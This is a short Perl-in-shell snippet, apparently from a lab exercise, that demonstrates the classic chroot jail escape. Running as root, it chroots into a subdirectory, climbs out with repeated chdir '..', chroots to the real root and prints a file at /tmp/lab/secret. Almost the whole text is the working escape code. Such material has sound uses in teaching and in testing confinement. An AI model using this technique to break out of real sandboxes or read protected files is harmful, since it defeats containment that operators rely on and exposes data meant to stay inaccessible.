# Runs with another root, as root, and prints the secret.
# A second chroot moves the root below the place where we stand. From there '..' meets no root any more, up to the real one.
perl <<'END'
  chroot "usr" or die "chroot: $!";
  chdir ".." for 1..20;
  chroot "." or die "chroot: $!";
  exec "cat", "/tmp/lab/secret";
END
